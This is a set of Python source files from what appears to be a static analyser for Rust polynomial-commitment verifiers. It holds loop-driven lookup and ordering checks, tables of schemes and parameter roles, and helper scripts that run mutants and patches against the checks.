A verifier that takes a query set and a map of claimed evaluations has to look at the claim of *every* query. Each
lookup in the claims map (`get` / `get_mut` / index on the parameter or a copy of it) must therefore sit - directly,
or through the calls and closures that lead to it - inside a loop whose cursor is data-derived from the query-set
parameter (the query set itself, or a container filled from it such as the per-point grouping), or in the closure of an
iterator adaptor whose receiver is so derived. A lookup driven by
some other collection (the list of equations, say, with the point fetched from a map keyed by label) visits one claim
per element of that collection: queries that do not map one-to-one onto it are never compared.
"""
from ..engine import short
from ..flow import DATA, ALIAS
from . import lenguard as LG
from .meet import _natural_loops
from .carried import _iterator_locals

LOOKUPS = ("get", "get_mut", "index", "index_mut", "remove", "get_key_value")
MAPS = ("BTreeMap<", "HashMap<", "Evaluations<")


def _callers(f, g, bid):
    """(body, block) sites in scope that call / create body `bid`."""
    out = []
    for cb in g.scope:
        b = f.bodies[cb]
        for i, t in b.calls():
            if bid in f.call_targets(t, g.ctx_adt) or t.get("self_closure") == bid:
                out.append((cb, i))
        for i, blk in enumerate(b.blocks):
            for st in blk["stmts"]:
                if st["rv"].get("k") == "agg" and st["rv"].get("closure") == bid:
                    out.append((cb, i))
    return out


def run(rep, ctx, anchor, rule="R5v"):
    vi, qi = anchor.roles.get("values"), anchor.roles.get("query_set")
    if vi is None or qi is None or not any(m in anchor.body.locals[vi]["ty"] for m in MAPS):
        return 0
    g = ctx.graph(anchor)
    f = ctx.facts
    V = LG.views(g, {(anchor.body.id, vi)})
    from_q = {st[0] for st in g.reach([(anchor.body.id, qi)], typed=False, kinds=(DATA, ALIAS))}
    loops_of, cursors_of = {}, {}

    def driven(bid, blk, seen):
        """the site lies in a query-driven loop of its body, or every way of reaching its body does."""
        if (bid, blk) in seen:
            return False
        seen.add((bid, blk))
        b = f.bodies[bid]
        if bid not in loops_of:
            loops_of[bid] = _natural_loops(b)
        for (h, blocks) in loops_of[bid]:
            if blk not in blocks:
                continue
            key = (bid, h)
            if key not in cursors_of:
                cursors_of[key] = _iterator_locals(b, h, blocks)
            if any((bid, c) in from_q for c in cursors_of[key]):
                return True
        if bid == anchor.body.id:
            return False
        if b.kind == "Closure":
            # the closure is the body of an iterator adaptor (`map`, `for_each`, `all`, ..) whose receiver is driven
            # by the query set: one invocation per element, like a loop body
            for cb in g.scope:
                pb = f.bodies[cb]
                made = {st["dst"]["l"] for blk in pb.blocks for st in blk["stmts"]
                        if st["rv"].get("k") == "agg" and st["rv"].get("closure") == bid and not st["dst"]["p"]}
                if not made:
                    continue
                for ci, ct in pb.calls():
                    args = [a for a in ct["args"] if a["k"] in ("copy", "move")]
                    if len(args) >= 2 and any(a["pl"]["l"] in made for a in args[1:]) and (cb, args[0]["pl"]["l"]) in from_q:
                        return True
        cs = _callers(f, g, bid)
        return bool(cs) and all(driven(cb, ci, seen) for (cb, ci) in cs)

    n, bad = 0, None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in LOOKUPS or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            a0 = (bid, t["args"][0]["pl"]["l"])
            if a0 not in V or not any(m in (b.locals[a0[1]]["ty"] or "") for m in MAPS):
                continue
            n += 1
            if not driven(bid, i, set()) and bad is None:
                bad = t["span"]
    if n == 0:
        return 0
    rep.add(rule, "%s:every-query-visited" % anchor.key, bad is None,
            ("each of the %d lookups in the claimed-evaluations map sits in a loop driven by the query set" % n) if bad is None else
            ("the lookup of a claimed value at %s is not inside a loop driven by the query set: which claims are compared "
             "is decided by another collection, and queries that do not correspond one-to-one to its elements are never "
             "looked at" % bad), bad or anchor.body.span)
    return n


# ---------------------------------------------------------------------------------------------------------
# R5w: the order in which a batch prover hands polynomials to `open` is the order of the query grouping
ADAPTORS = ("iter", "into_iter", "iter_mut", "filter", "map", "filter_map", "enumerate", "rev", "skip", "take", "cloned", "copied",
            "zip", "chain", "peekable", "by_ref", "skip_while", "take_while", "flat_map", "inspect", "deref", "as_ref", "as_slice",
            "values", "keys", "into_values", "into_keys", "flatten", "fuse", "step_by")
FILLS = ("push", "push_back", "extend", "insert")


def _defs(b, l):
    out = []
    for blk in b.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            if st["dst"]["l"] == l and not st["dst"]["p"]:
                out.append(("s", st["rv"]))
        t = blk["term"]
        if t["k"] == "call" and t["dst"]["l"] == l and not t["dst"]["p"]:
            out.append(("c", t))
    return out


def source_roots(b, l, depth=0, seen=None):
    """the locals an iterator / view in local `l` walks over: back through adaptors along their *receiver* only (what a
    `filter` closure captures decides which elements pass, not in which order they come)."""
    seen = seen if seen is not None else set()
    if l in seen or depth > 15:
        return set()
    seen.add(l)
    ds = _defs(b, l)
    if not ds or 1 <= l <= b.arg_count:
        return {l}
    out = set()
    for kind, d in ds:
        if kind == "s":
            k = d.get("k")
            pl = d.get("pl") if k in ("ref", "rawptr") else (d["ops"][0].get("pl") if k in ("use", "cast") and d.get("ops") and d["ops"][0]["k"] in ("copy", "move") else None)
            if pl is None:
                out.add(l)
            elif pl["l"] == l:
                out.add(l)
            else:
                out |= source_roots(b, pl["l"], depth + 1, seen) if not [e for e in pl["p"] if isinstance(e, dict) and "n" in e] else {pl["l"]}
        else:
            nm = (d.get("callee") or "").rsplit("::", 1)[-1]
            if nm in ADAPTORS and d["args"] and d["args"][0]["k"] in ("copy", "move"):
                out |= source_roots(b, d["args"][0]["pl"]["l"], depth + 1, seen)
            else:
                out.add(l)
    return out


def run_order(rep, ctx, key, body, ctx_adt, q_index, polys_arg, rule="R5w"):
    """the vector of polynomials a batch prover hands to `open` is filled under an innermost loop (or adaptor closure)
    that walks a container derived from the query set: the per-point label set, whose order the verifier uses too. A fill
    driven by the caller's list of polynomials (filtered by membership in the label set) hands them over in the
    caller's order; prover and verifier then give their per-polynomial challenges to different polynomials."""
    from ..flow import Graph
    f = ctx.facts
    g = Graph(f, f.closure([body.id], ctx_adt), [body.id], ctx_adt)
    from_q = {st[0] for st in g.reach([(body.id, q_index)], typed=False, kinds=(DATA, ALIAS))}
    n = 0
    bad = None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm != "open" or len(t["args"]) <= polys_arg or t["args"][polys_arg]["k"] not in ("copy", "move"):
                continue
            if not (f.call_targets(t, ctx_adt) or (t.get("callee_trait") or "").endswith("PolynomialCommitment")):
                continue
            vec_roots = source_roots(b, t["args"][polys_arg]["pl"]["l"])
            # fill sites of those vectors in this body and in its closures
            fam = [x for x in g.scope if x == bid or (f.bodies[x].kind == "Closure" and f.bodies[x].root == b.root)]
            for x in fam:
                bx = f.bodies[x]
                targets = set(vec_roots) if x == bid else set()
                if x != bid:
                    # captured vectors: the closure's upvar locals created from (refs of) the roots
                    for pblk in b.blocks:
                        for st in pblk["stmts"]:
                            rv = st["rv"]
                            if rv.get("k") == "agg" and rv.get("closure") == x:
                                for k_, op in enumerate(rv["ops"]):
                                    if op["k"] in ("copy", "move") and source_roots(b, op["pl"]["l"]) & vec_roots and k_ in (bx.upvar_locals or {}):
                                        targets.add(bx.upvar_locals[k_])
                if not targets:
                    continue
                loops = _natural_loops(bx)
                for j, u in bx.calls():
                    if (u.get("callee") or "").rsplit("::", 1)[-1] not in FILLS or not u["args"] or u["args"][0]["k"] not in ("copy", "move"):
                        continue
                    if not (source_roots(bx, u["args"][0]["pl"]["l"]) & targets):
                        continue
                    n += 1
                    inner = [(h, blocks) for (h, blocks) in loops if j in blocks]
                    drivers = set()
                    if inner:
                        h, blocks = min(inner, key=lambda z: len(z[1]))
                        for c in _iterator_locals(bx, h, blocks):
                            drivers |= {(x, r) for r in source_roots(bx, c)}
                    elif bx.kind == "Closure":
                        for cb in g.scope:
                            pb = f.bodies[cb]
                            made = {st["dst"]["l"] for blk in pb.blocks for st in blk["stmts"]
                                    if st["rv"].get("k") == "agg" and st["rv"].get("closure") == x and not st["dst"]["p"]}
                            for ci, ct in pb.calls():
                                args = [a for a in ct["args"] if a["k"] in ("copy", "move")]
                                if made and len(args) >= 2 and any(a["pl"]["l"] in made for a in args[1:]):
                                    drivers |= {(cb, r) for r in source_roots(pb, args[0]["pl"]["l"])}
                    if drivers and not any(d in from_q for d in drivers) and bad is None:
                        bad = u["span"]
    if n == 0:
        return 0
    rep.add(rule, "%s:opened-in-query-order" % key, bad is None,
            ("the %d fill(s) of the vector of polynomials handed to `open` happen under a walk over a container derived from "
             "the query set" % n) if bad is None else
            ("the vector of polynomials handed to `open` is filled at %s under a walk over something that does not come from "
             "the query set: the polynomials of a group are opened in that container's order, not in the order of the "
             "group's label set that the verifier uses" % bad), bad or body.span)
    return n


# ---------------------------------------------------------------------------------------------------------
# R5u: an in-place update of a claimed value reaches every entry once
SEQ_TYPES = ("std::vec::Vec<", "&[", "[", "std::collections::VecDeque<", "std::slice::Iter<", "std::vec::IntoIter<")
SET_TYPES = ("std::collections::BTreeSet<", "std::collections::HashSet<", "std::collections::BTreeMap<", "std::collections::HashMap<")
UPDATERS = ("get_mut", "entry", "index_mut")


def _strip_refs(ty):
    ty = (ty or "").strip()
    while ty.startswith("&"):
        ty = ty[1:].lstrip()
        if ty.startswith("mut "):
            ty = ty[4:]
        if ty.startswith("'"):
            ty = ty.split(" ", 1)[1] if " " in ty else ty
    return ty


def _first_arg(ty, head):
    """first generic argument of `head<..>` in a type string (bracket matching)."""
    i = ty.find(head)
    if i < 0:
        return None
    j = i + len(head)
    depth, k = 0, j
    while k < len(ty):
        c = ty[k]
        if c in "<([":
            depth += 1
        elif c in ">)]":
            if depth == 0:
                break
            depth -= 1
        elif c == "," and depth == 0:
            break
        k += 1
    return ty[j:k].strip()


def _components(key_ty):
    comps = {key_ty}
    if key_ty.startswith("("):
        depth, cur = 0, ""
        for c in key_ty[1:-1]:
            if c in "<([":
                depth += 1
            elif c in ">)]":
                depth -= 1
            if c == "," and depth == 0:
                comps.add(cur.strip())
                cur = ""
            else:
                cur += c
        comps.add(cur.strip())
    return comps


def run_update_once(rep, ctx, anchor, rule="R5u"):
    """the working copy of the claimed evaluations is adjusted in place (an equation's constant is moved over). When
    the entry to adjust is fetched *by key* inside a loop, every key the loop produces adjusts its entry once more: the
    loop has to walk a duplicate-free collection of the map's keys - the map itself, a set or the keys of a map whose
    elements are the key or a component of it. A walk over the query set (whose entries carry a point label the map's
    key does not have) or over a vector filled from it produces the same (label, point) key once per point label."""
    vi = anchor.roles.get("values")
    if vi is None or not any(m in anchor.body.locals[vi]["ty"] for m in MAPS):
        return 0
    g = ctx.graph(anchor)
    f = ctx.facts
    V = LG.views(g, {(anchor.body.id, vi)})
    # copies of the map count as the map
    more = True
    while more:
        more = False
        for bid in g.scope:
            b = f.bodies[bid]
            for i, t in b.calls():
                if (t.get("callee") or "").rsplit("::", 1)[-1] == "clone" and t["args"] and t["args"][0]["k"] in ("copy", "move") \
                        and (bid, t["args"][0]["pl"]["l"]) in V and (bid, t["dst"]["l"]) not in V:
                    V |= LG.views(g, {(bid, t["dst"]["l"])})
                    more = True
    key_ty = _first_arg(_strip_refs(anchor.body.locals[vi]["ty"]), "BTreeMap<") or _first_arg(_strip_refs(anchor.body.locals[vi]["ty"]), "HashMap<") or ""
    comps = _components(key_ty)
    n, bad = 0, None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        loops = None
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in UPDATERS or not t["args"] or t["args"][0]["k"] not in ("copy", "move") or (bid, t["args"][0]["pl"]["l"]) not in V:
                continue
            if not any(m in (b.locals[t["args"][0]["pl"]["l"]]["ty"] or "") for m in MAPS):
                continue
            if loops is None:
                loops = _natural_loops(b)
            inner = [(h, blocks) for (h, blocks) in loops if i in blocks]
            if not inner:
                continue
            n += 1
            # the key type as this body spells it (a generic helper says `D` where the entry point says `E::ScalarField`)
            rty = _strip_refs(b.locals[t["args"][0]["pl"]["l"]]["ty"])
            key_ty = _first_arg(rty, "BTreeMap<") or _first_arg(rty, "HashMap<") or key_ty
            comps = _components(key_ty)
            h, blocks = min(inner, key=lambda z: len(z[1]))
            for c in _iterator_locals(b, h, blocks):
                for r in source_roots(b, c):
                    if (bid, r) in V:
                        continue
                    ty = _strip_refs(b.locals[r]["ty"])
                    while ty.startswith("std::option::Option<"):
                        ty = _strip_refs(ty[len("std::option::Option<"):-1])      # `map.get(k).into_iter().flatten()`
                    if ty.startswith(SEQ_TYPES):
                        bad = bad or (t["span"], "a sequence (%s), which may hold a key several times" % ty[:50])
                    elif ty.startswith(SET_TYPES):
                        el = _strip_refs(_first_arg(ty, ty[:ty.index("<") + 1]) or "")
                        if el not in {_strip_refs(x) for x in comps}:
                            bad = bad or (t["span"], "a collection keyed by %s, not by the map's key %s or a part of it" % (el[:60], key_ty[:40]))
    if n == 0:
        return 0
    rep.add(rule, "%s:claims-updated-once" % anchor.key, bad is None,
            ("the %d keyed in-place update(s) of the claimed evaluations are driven by a duplicate-free collection of the map's keys" % n)
            if bad is None else
            ("the in-place update at %s fetches the entry by key inside a loop over %s: an entry is adjusted once per "
             "produced key, not once" % bad), bad[0] if bad else anchor.body.span)
    return n
