"""setup: build the driver and warm the per-configuration dependency caches (offline)."""
import sys
import time
from .extract import build_driver, extract, CONFIGS

if __name__ == "__main__":
    t = time.time()
    build_driver()
    print("driver built (%.1fs)" % (time.time() - t))
    for c in CONFIGS:
        t = time.time()
        p, d, s, fresh = extract(c, force=True)
        print("config %-8s facts %s (%.1fs)" % (c, p, time.time() - t))
