"""Frozen tables: anchors, parameter roles, component lists, exceptions (one reason each).

Anchors are public API items only (DESIGN.md 2.3). Nothing here names a private helper, a local
variable, a line or a text fragment.
"""

PC = "PolynomialCommitment"
SPONGE_TRAIT = "ark_crypto_primitives::sponge::CryptographicSponge"
ORACLE_TRAITS = ("digest::Digest",)
RNG_TRAITS = ("rand::RngCore", "rand_core::RngCore", "rand::Rng", "rand::CryptoRng")

# scalar-field type strings as rustc prints them in the bodies of the respective schemes
SCALARS = ["F", "<E as ark_ec::pairing::Pairing>::ScalarField", "<G as ark_ec::AffineRepr>::ScalarField"]
POINTS = ["<P as ark_poly::Polynomial<F>>::Point",
          "<P as ark_poly::Polynomial<<E as ark_ec::pairing::Pairing>::ScalarField>>::Point",
          "<P as ark_poly::Polynomial<<G as ark_ec::AffineRepr>::ScalarField>>::Point"]

# parameter positions (MIR local index) by trait method
ROLES = {
    "check": dict(vk=1, commitments=2, point=3, values=4, proof=5, sponge=6, rng=7),
    "batch_check": dict(vk=1, commitments=2, query_set=3, values=4, proof=5, sponge=6, rng=7),
    "check_combinations": dict(vk=1, lcs=2, commitments=3, query_set=4, values=5, proof=6, sponge=7, rng=8),
    "open": dict(ck=1, polys=2, commitments=3, point=4, sponge=5, states=6, rng=7),
    "batch_open": dict(ck=1, polys=2, commitments=3, query_set=4, sponge=5, states=6, rng=7),
    "open_combinations": dict(ck=1, lcs=2, polys=3, commitments=4, query_set=5, sponge=6, states=7, rng=8),
    "commit": dict(ck=1, polys=2, rng=3),
    "setup": dict(max_degree=1, num_vars=2, rng=3),
    "trim": dict(pp=1, supported_degree=2, supported_hiding_bound=3, enforced_degree_bounds=4),
}

LC = "data_structures::LabeledCommitment"

# ---------------------------------------------------------------------------------------------
# Schemes implementing the trait. `commitment`: ADT fields that carry the commitment payload.
# `proof`: (ADT, fields) the verifier must consume. `vk`: (ADT, fields) the relation mentions.
# Fields that are metadata only (degree reports) are not listed: the relation does not mention them.
KZG_VK = ("kzg10::data_structures::VerifierKey", None)  # field list depends on the verifier, see below
G1A = ["<E as ark_ec::pairing::Pairing>::G1Affine"]
G2A = ["<E as ark_ec::pairing::Pairing>::G2Affine"]
GRP = ["G"]
KZG_PROOF = [("kzg10::data_structures::Proof", "w"), ("kzg10::data_structures::Proof", "random_v", SCALARS)]

SCHEMES = {
    "marlin_kzg10": dict(
        adt="marlin::marlin_pc::MarlinKZG10",
        own=["check", "batch_check", "check_combinations"],
        commitment=[(LC, "commitment"), ("marlin::marlin_pc::data_structures::Commitment", "comm"),
                    ("kzg10::data_structures::Commitment", "0")],
        proof=KZG_PROOF,
        vk={"check": [("kzg10::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")]
            + [("marlin::marlin_pc::data_structures::VerifierKey", "vk")],
            "batch_check": [("kzg10::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")]
            + [("marlin::marlin_pc::data_structures::VerifierKey", "vk")]},
        degree_bound=dict(shifted=("marlin::marlin_pc::data_structures::Commitment", "shifted_comm"),
                          shifted_payload=["kzg10::data_structures::Commitment<E>"],
                          vk_field=("marlin::marlin_pc::data_structures::VerifierKey", "degree_bounds_and_shift_powers")),
    ),
    "sonic_kzg10": dict(
        adt="sonic_pc::SonicKZG10",
        own=["check", "batch_check", "check_combinations"],
        commitment=[(LC, "commitment"), ("kzg10::data_structures::Commitment", "0")],
        proof=KZG_PROOF,
        vk={"check": [("sonic_pc::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")],
            "batch_check": [("sonic_pc::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")]},
        degree_bound=dict(vk_field=("sonic_pc::data_structures::VerifierKey", "degree_bounds_and_neg_powers_of_h")),
    ),
    "ipa": dict(
        adt="ipa_pc::InnerProductArgPC",
        own=["check", "batch_check", "check_combinations"],
        commitment=[(LC, "commitment"), ("ipa_pc::data_structures::Commitment", "comm")],
        proof=[("ipa_pc::data_structures::Proof", "l_vec", GRP), ("ipa_pc::data_structures::Proof", "r_vec", GRP),
               ("ipa_pc::data_structures::Proof", "final_comm_key"), ("ipa_pc::data_structures::Proof", "c"),
               ("ipa_pc::data_structures::Proof", "hiding_comm", GRP), ("ipa_pc::data_structures::Proof", "rand", SCALARS)],
        vk={"check": [("ipa_pc::data_structures::CommitterKey", x) for x in ("comm_key", "h", "s")],
            "batch_check": [("ipa_pc::data_structures::CommitterKey", x) for x in ("comm_key", "h", "s")]},
        degree_bound=dict(shifted=("ipa_pc::data_structures::Commitment", "shifted_comm"), shifted_payload=["G"]),
    ),
    "marlin_pst13": dict(
        adt="marlin::marlin_pst13_pc::MarlinPST13",
        own=["check", "batch_check", "check_combinations"],
        commitment=[(LC, "commitment"), ("marlin::marlin_pc::data_structures::Commitment", "comm"),
                    ("kzg10::data_structures::Commitment", "0")],
        proof=[("marlin::marlin_pst13_pc::data_structures::Proof", "w", G1A),
               ("marlin::marlin_pst13_pc::data_structures::Proof", "random_v", SCALARS)],
        vk={"check": [("marlin::marlin_pst13_pc::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")],
            "batch_check": [("marlin::marlin_pst13_pc::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")]},
    ),
    "hyrax": dict(
        adt="hyrax::HyraxPC",
        own=["check"],
        commitment=[(LC, "commitment"), ("hyrax::data_structures::HyraxCommitment", "row_coms")],
        proof=[("hyrax::data_structures::HyraxProof", x) for x in ("com_eval", "com_d", "com_b", "z_d", "z_b")]
        + [("hyrax::data_structures::HyraxProof", "z", SCALARS)],
        vk={"check": [("hyrax::data_structures::HyraxUniversalParams", x) for x in ("com_key", "h")]},
    ),
    "linear_codes": dict(
        adt="linear_codes::LinearCodePCS",
        own=["check"],
        commitment=[(LC, "commitment"), ("linear_codes::data_structures::LinCodePCCommitment", "root"),
                    ("linear_codes::data_structures::LinCodePCCommitment", "metadata"),
                    ("linear_codes::data_structures::Metadata", "n_rows"),
                    ("linear_codes::data_structures::Metadata", "n_cols"),
                    ("linear_codes::data_structures::Metadata", "n_ext_cols")],
        proof=[("linear_codes::data_structures::LinCodePCProof", "opening"),
               ("linear_codes::data_structures::LinCodePCProof", "well_formedness", SCALARS),
               ("linear_codes::data_structures::LinCodePCProofSingle", "paths"),
               ("linear_codes::data_structures::LinCodePCProofSingle", "v", SCALARS),
               ("linear_codes::data_structures::LinCodePCProofSingle", "columns", SCALARS),
               ("ark_crypto_primitives::merkle_tree::Path", "leaf_index")],
        vk={"check": []},  # the key is a trait object of LinCodeParametersInfo: see VK_CALLS
    ),
}

# key material reached through accessor methods of a trait (no fields to name): the result of each
# listed call must reach the outcome.
VK_CALLS = {
    "linear_codes": ["linear_codes::LinCodeParametersInfo::sec_param", "linear_codes::LinCodeParametersInfo::distance",
                     "linear_codes::LinCodeParametersInfo::check_well_formedness",
                     "linear_codes::LinCodeParametersInfo::leaf_hash_param",
                     "linear_codes::LinCodeParametersInfo::two_to_one_hash_param",
                     "linear_codes::LinCodeParametersInfo::col_hash_params"],
}

# Verifiers outside the trait.
INHERENT_VERIFIERS = {
    "kzg10.check": dict(
        find=dict(name="check", self_adt="kzg10::KZG10", trait=""),
        roles=dict(vk=1, commitments=2, point=3, values=4, proof=5),
        commitment=[("kzg10::data_structures::Commitment", "0")],
        proof=KZG_PROOF,
        vk=[("kzg10::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")],
    ),
    "kzg10.batch_check": dict(
        find=dict(name="batch_check", self_adt="kzg10::KZG10", trait=""),
        roles=dict(vk=1, commitments=2, point=3, values=4, proof=5, rng=6),
        commitment=[("kzg10::data_structures::Commitment", "0")],
        proof=KZG_PROOF,
        vk=[("kzg10::data_structures::VerifierKey", x) for x in ("g", "gamma_g", "h|prepared_h", "beta_h|prepared_beta_h")],
    ),
    "multilinear.check": dict(
        find=dict(name="check", self_adt="multilinear_pc::MultilinearPC", trait=""),
        roles=dict(vk=1, commitments=2, point=3, values=4, proof=5),
        commitment=[("multilinear_pc::data_structures::Commitment", "g_product")],
        proof=[("multilinear_pc::data_structures::Proof", "proofs", G2A)],
        vk=[("multilinear_pc::data_structures::VerifierKey", x) for x in ("g", "h", "g_mask_random")],
    ),
    "streaming.verify": dict(
        find=dict(name="verify", self_adt="streaming_kzg::VerifierKey", trait=""),
        roles=dict(vk=1, commitments=2, point=3, values=4, proof=5),
        commitment=[("streaming_kzg::Commitment", "0")],
        proof=[("streaming_kzg::EvaluationProof", "0")],
        vk=[("streaming_kzg::VerifierKey", x) for x in ("powers_of_g", "powers_of_g2")],
    ),
    "streaming.verify_multi_points": dict(
        find=dict(name="verify_multi_points", self_adt="streaming_kzg::VerifierKey", trait=""),
        roles=dict(vk=1, commitments=2, point=3, values=4, proof=5, open_chal=6),
        commitment=[("streaming_kzg::Commitment", "0")],
        proof=[("streaming_kzg::EvaluationProof", "0")],
        vk=[("streaming_kzg::VerifierKey", x) for x in ("powers_of_g", "powers_of_g2")],
    ),
}

# trait-default verifiers are analysed once per scheme that inherits them, with `Self::check`
# dispatched to that scheme's implementation
DEFAULT_USERS = {
    "batch_check": ["hyrax", "linear_codes"],
    "check_combinations": ["hyrax", "linear_codes"],
}
