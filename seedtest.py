#!/usr/bin/env python3
"""developer helper: run every claimed property against a patch (applied to a scratch copy of /repo)."""
import json, os, shutil, sys, importlib, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pcv.mutate import make_scratch
from selftest_all import run_props  # noqa

def main(patch, props):
    base = run_props("/repo", props)
    d, dst = make_scratch()
    try:
        r = subprocess.run(["git", "apply", "--whitespace=nowarn", os.path.abspath(patch)], cwd=dst, capture_output=True, text=True)
        if r.returncode != 0:
            r = subprocess.run(["patch", "-p1", "-s", "-i", os.path.abspath(patch)], cwd=dst, capture_output=True, text=True)
            if r.returncode != 0:
                print("patch does not apply:", r.stdout, r.stderr); return
        res = run_props(dst, props)
        any_ = False
        for p in props:
            added = sorted(set(res[p]) - set(base[p]))
            for k in added:
                print("  ", k); any_ = True
        if not any_:
            print("   (no check reports anything)")
    finally:
        shutil.rmtree(d, ignore_errors=True)

if __name__ == "__main__":
    props = sys.argv[2:] or ["C02","C03","C04","C05","C06","C07","C09","C10","C11","C12","C13","C16","C17","C18","C19"]
    main(sys.argv[1], props)
