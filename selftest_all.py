#!/usr/bin/env python3
"""developer helper: run every mutant against every property it is registered for (one extraction per mutant)."""
import json, os, shutil, sys, importlib
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pcv.mutate import make_scratch, apply_diff, MUT_DIR
from pcv.engine import Ctx, Report

def run_props(dst, props):
    out = {}
    ctxs = {}
    for prop in props:
        mod = importlib.import_module("pcv.props.%s" % prop.lower())
        cfgs = getattr(mod, "CROSS_CONFIGS", None) or ["default"]
        for c in cfgs:
            if c not in ctxs:
                ctxs[c] = Ctx(c, repo=dst)
        rep = Report(prop, "quick", cfgs)
        for c in cfgs:
            mod.run(rep, ctxs[c], "quick")
        if hasattr(mod, "run_cross"):
            mod.run_cross(rep, [ctxs[c] for c in cfgs], "quick")
        out[prop] = sorted({i["key"] for i in rep.instances if not i["ok"]})
    return out

def _one(m):
    """analyse one registered change in a scratch copy; returns (id, kind, payload)."""
    d, dst = make_scratch()
    try:
        ok, out = apply_diff(dst, os.path.join(MUT_DIR, m["file"]))
        if not ok:
            return m["id"], "SKIP", "diff does not apply"
        try:
            return m["id"], "ok", run_props(dst, m["properties"])
        except SystemExit as e:
            return m["id"], "NOBUILD", str(e)
        except BaseException as e:
            return m["id"], "NOBUILD", repr(e)
    finally:
        shutil.rmtree(d, ignore_errors=True)


def _init(q):
    os.environ["PCV_WORKER"] = str(q.get())


def main():
    idx = json.load(open(os.path.join(MUT_DIR, "index.json")))
    only = sys.argv[1:]
    base = run_props("/repo", sorted({p for m in idx for p in m["properties"]}))
    print("baseline violations:", {k: v for k, v in base.items() if v})
    todo = [m for m in idx if not only or any(o in m["id"] for o in only)]
    import multiprocessing as mp
    n = max(1, min(int(os.environ.get("PCV_SELFTEST_WORKERS", "8")), len(todo)))
    ctx = mp.get_context("fork")
    q = ctx.Queue()
    for k in range(n):
        q.put(k)
    with ctx.Pool(n, initializer=_init, initargs=(q,)) as pool:
        results = dict((r[0], r[1:]) for r in pool.map(_one, todo, chunksize=1))
    bad = 0
    for m in todo:
        kind, res = results[m["id"]]
        if kind != "ok":
            print("%-7s %-55s %s" % (kind, m["id"], res)); bad += 1; continue
        for prop, v in res.items():
            added = sorted(set(v) - set(base[prop]))
            if m.get("silent"):
                st = "ok-silent" if not added else "FALSE-ALARM"
            else:
                exp = [e for e in m.get("expect", []) if e.startswith(prop + ":")]
                if exp:
                    st = "caught" if all(any(a.startswith(e) for a in added) for e in exp) else ("caught(other key)" if added else "MISSED")
                else:
                    st = "caught" if added else "MISSED"
                if st == "MISSED" and m.get("known_miss"):
                    st = "known-miss"
            if st in ("MISSED", "FALSE-ALARM"):
                bad += 1
            print("%-18s %-4s %-55s %s" % (st, prop, m["id"], added[:2]))
    print("problems:", bad)


if __name__ == "__main__":
    main()
